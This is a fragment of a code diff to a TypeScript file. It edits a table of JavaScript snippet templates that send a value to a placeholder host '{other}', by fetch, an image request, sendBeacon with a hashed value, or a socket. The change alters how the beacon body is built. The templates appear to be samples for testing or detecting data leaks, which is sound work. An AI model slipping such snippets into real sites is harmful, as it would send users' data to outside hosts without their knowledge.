@@ -34,7 +34,7 @@ const KEYS: Record<string, string> = {
   url: `fetch('{other}/neem?v=' + encodeURIComponent(value))`,
   base64: `new Image().src = '{other}/neem?d=' + encodeURIComponent(btoa(JSON.stringify({ v: value })))`,
   beacon: `crypto.subtle.digest('SHA-256', new TextEncoder().encode(value.trim().toLowerCase())).then((sum) =>
-    navigator.sendBeacon('{other}/neem', new Blob([[...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')))`,
+    navigator.sendBeacon('{other}/neem', [...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')))`,
   socket: `socket.send(value)`,
   own: `fetch('/neem', { method: 'POST', body: value })`,
 }
